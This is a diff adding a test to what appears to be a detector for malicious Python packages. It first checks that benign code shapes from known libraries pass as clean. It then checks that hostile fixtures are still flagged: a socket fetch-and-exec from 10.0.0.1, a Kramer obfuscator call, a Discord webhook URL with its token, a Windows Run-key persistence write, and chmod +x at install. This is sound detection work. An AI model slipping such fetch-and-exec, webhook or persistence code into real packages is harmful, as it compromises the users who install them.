@@ -829,3 +829,56 @@ def test_held_out_leftovers_data_urls_root_scripts_and_unix_sockets() -> None:
         init = "" if "bootstrap.py" in files else "from . import fixtures, manager\n"
         pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init, **files})
         assert verdict(pkg)[0] != "clean", files
+
+
+def test_sixth_held_out_batch_shapes() -> None:
+    """Causes behind the sixth held-out batch's false positives: a table of example objects that compiles an
+    empty string beside a socket (dill, vendored by tecton), a surname in a docstring read as an obfuscator's
+    name (statsmodels cites the Ploberger-Kramer test), ``chmod -R a+rX .`` when building an sdist
+    (python-stdnum), Discord's OAuth endpoints kept as class attributes of a sign-in client
+    (python-fasthtml) and the proxy settings key written through ``self.KEY`` (pproxy)."""
+    files = {
+        "helperlib/_objects.py": ("import socket\na = {}\na['CodeType'] = compile('', '', 'exec')\n"
+                                  "a['SocketType'] = socket.socket()\n"),
+        "helperlib/diagnostic.py": ('def breaks_cusumolsresid(x):\n    """Not clear: Assumption 2 in Ploberger, '
+                                    'Kramer assumes that exog x have mean zero."""\n    return x\n'),
+        "helperlib/oauth.py": ("import httpx\n\nclass DiscordAppClient:\n"
+                               "    base_url = 'https://discord.com/oauth2/authorize'\n"
+                               "    token_url = 'https://discord.com/api/oauth2/token'\n"
+                               "    revoke_url = 'https://discord.com/api/oauth2/token/revoke'\n"
+                               "    info_url = 'https://discord.com/api/users/@me'\n\n"
+                               "    def info(self, token):\n"
+                               "        return httpx.get(self.info_url, headers={'Authorization': token}).json()\n"),
+        "helperlib/sysproxy.py": ("class ProxySetter:\n    KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\"
+                                  "Internet Settings\\Connections'\n"
+                                  "    SUBKEY = 'DefaultConnectionSettings'\n\n    def setup(self, value):\n"
+                                  "        import winreg\n"
+                                  "        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, self.KEY, 0, 983103)\n"
+                                  "        winreg.SetValueEx(key, self.SUBKEY, None, winreg.REG_BINARY, value)\n"),
+    }
+    init = "from . import _objects, diagnostic, oauth, sysproxy\n"
+    for rel, code in files.items():
+        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init,
+                                                               rel: code}))
+        assert result == "clean", (rel, findings)
+    setup = ("import os, sys\nfrom setuptools import setup\nif 'sdist' in sys.argv:\n"
+             "    os.system('chmod -R a+rX .')\nsetup(name='helperlib', version='0.1', packages=['helperlib'])\n")
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": ""}))
+    assert result == "clean", findings
+    # a compiled string fetched beside the socket, the obfuscator named in code, chmod +x at install, a
+    # Discord webhook kept as a class attribute, and the Run key through self.KEY are still reported
+    bad = {
+        "helperlib/_objects.py": ("import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))\n"
+                                  "exec(compile(s.recv(4096), '', 'exec'))\n"),
+        "helperlib/diagnostic.py": "from kramer import Kramer\nKramer(b'x0x1x2').run()\n",
+        "helperlib/oauth.py": ("import requests\n\nclass Hook:\n"
+                               "    url = 'https://discord.com/api/webhooks/981516268622475326/"
+                               "rNph1h3-FVHw1k7tbTc_pBibabi1OuNBMckU5h6eGGI6wrASs6tcRymj_o7Oj6Bdcuf9'\n"),
+        "helperlib/sysproxy.py": files["helperlib/sysproxy.py"].replace(
+            "Internet Settings\\Connections", "Run"),
+    }
+    for rel, code in bad.items():
+        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init, rel: code})
+        assert verdict(pkg)[0] != "clean", rel
+    chmod = setup.replace("if 'sdist' in sys.argv:\n    ", "").replace("-R a+rX .", "+x helperlib/run")
+    assert verdict(sdist("helperlib", "0.1", {"setup.py": chmod, "helperlib/__init__.py": ""}))[0] != "clean"
